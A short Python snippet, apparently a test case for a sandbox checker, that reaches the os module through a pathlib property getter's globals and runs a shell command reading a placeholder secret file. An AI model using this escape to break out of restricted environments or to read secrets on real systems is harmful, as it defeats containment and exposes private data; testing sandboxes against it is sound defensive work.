# A property's getter is a plain function, with globals.
# effect: run
import pathlib
pathlib.PurePath.__dict__["name"].fget.__globals__["os"].system("cat @SECRET@")
